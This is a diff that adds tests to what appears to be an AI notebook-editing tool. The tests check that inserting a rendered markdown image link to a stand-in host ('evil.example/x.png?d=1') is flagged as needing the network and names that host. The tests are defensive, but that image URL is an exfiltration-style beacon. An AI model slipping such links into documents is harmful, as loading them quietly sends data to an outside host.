@@ -212,6 +212,47 @@ async def test_the_preview_shows_exactly_what_is_written(
     assert len(facts["cell aaaa1111bbbb"]) == 64
 
 
+IMAGE = "![](http://evil.example/x.png?d=1)"
+
+
+async def test_an_edit_that_has_something_loaded_needs_the_network_and_names_the_host(
+    workspace: FakeWorkspace, call: CallTool
+) -> None:
+    await call(workspace, "read_cells", ids=["cccc2222"])
+    plain = await call(
+        workspace, "edit_cells", ops=[{"op": "insert", "after": "end", "source": IMAGE}]
+    )
+    assert plain.preview.needs == frozenset()  # a code cell shows it as text
+    for op in (
+        {"op": "insert", "after": "end", "type": "markdown", "source": IMAGE},
+        {"op": "insert", "after": "end", "type": "raw", "source": IMAGE},
+        {"op": "replace", "id": "cccc2222", "source": f"# Title\n{IMAGE}"},
+        {"op": "str_replace", "id": "cccc2222", "old": "evil.example", "new": "x.evil.example"},
+        {"op": "set_type", "id": plain.output.cells[0].cell_id, "type": "markdown"},
+    ):
+        called = await call(workspace, "edit_cells", ops=[op])
+        assert called.preview.needs == {"network"}, op
+        assert "evil.example" in called.preview.blocks[0].label
+        assert "evil.example/x.png?d=1" in called.preview.blocks[0].text
+    kept = await call(
+        workspace,
+        "edit_cells",
+        ops=[{"op": "str_replace", "id": "cccc2222", "old": "Title", "new": "Heading"}],
+    )
+    assert kept.preview.needs == frozenset()
+
+
+async def test_a_new_notebook_that_has_something_loaded_needs_the_network(
+    workspace: FakeWorkspace, call: CallTool
+) -> None:
+    cells = [{"type": "markdown", "source": IMAGE}, {"type": "code", "source": IMAGE}]
+    called = await call(workspace, "create_notebook", path="new.ipynb", cells=cells)
+    assert called.preview.needs == {"network"}
+    assert called.preview.blocks[0].label.endswith("evil.example")
+    called = await call(workspace, "create_notebook", path="other.ipynb", cells=cells[1:])
+    assert called.preview.needs == frozenset()
+
+
 async def test_the_preview_is_bound_to_what_would_be_replaced(
     workspace: FakeWorkspace, notebook: FakeNotebook, call: CallTool
 ) -> None:
